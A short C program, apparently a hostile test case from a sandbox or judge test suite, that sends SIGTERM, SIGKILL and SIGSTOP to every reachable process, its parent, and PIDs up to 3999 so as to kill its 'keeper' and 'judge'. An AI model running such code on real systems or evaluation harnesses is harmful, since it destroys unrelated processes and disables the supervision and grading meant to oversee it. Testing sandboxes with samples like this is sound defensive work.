/* Row 29: kill all that can be seen, then the keeper and what might be the judge by number. It goes on and leaves by
 * itself: neither its own end nor the judge's may come of it. */
#include "attack.h"

int main(void)
{
    static const int signals[] = {SIGTERM, SIGKILL, SIGSTOP};
    for (size_t i = 0; i < ARRAY_COUNT(signals); i++) {
        (void)kill(-1, signals[i]);
        for (pid_t pid = 1; pid < 4000; pid++)
            if (pid != getpid())
                (void)kill(pid, signals[i]);
        (void)kill(getppid(), signals[i]);
    }
    puts("alive");
    return 5;
}
